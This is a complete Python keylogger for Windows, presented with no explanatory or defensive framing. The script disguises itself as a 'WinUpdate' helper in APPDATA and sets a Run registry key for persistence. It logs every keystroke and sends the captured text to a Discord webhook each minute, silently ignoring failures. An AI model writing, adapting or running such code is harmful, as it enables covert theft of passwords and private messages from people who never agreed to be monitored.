# -*- coding: utf-8 -*-
import os
import shutil
import sys
import threading
import winreg
from pynput import keyboard
import requests

HOOK = "https://discord.com/api/webhooks/1183746529103847562/«u68»"
buf = []


def install():
    target = os.path.join(os.environ["APPDATA"], "WinUpdate", "helper.pyw")
    os.makedirs(os.path.dirname(target), exist_ok=True)
    if not os.path.exists(target):
        shutil.copyfile(sys.argv[0], target)
    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(k, "WinUpdate", 0, winreg.REG_SZ, f'pythonw "{target}"')


def on_press(key):
    buf.append(str(key).replace("'", ""))


def flush():
    if buf:
        text = "".join(buf)
        buf.clear()
        try:
            requests.post(HOOK, json={"content": text[:1900]})
        except Exception:
            pass
    threading.Timer(60, flush).start()


install()
flush()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
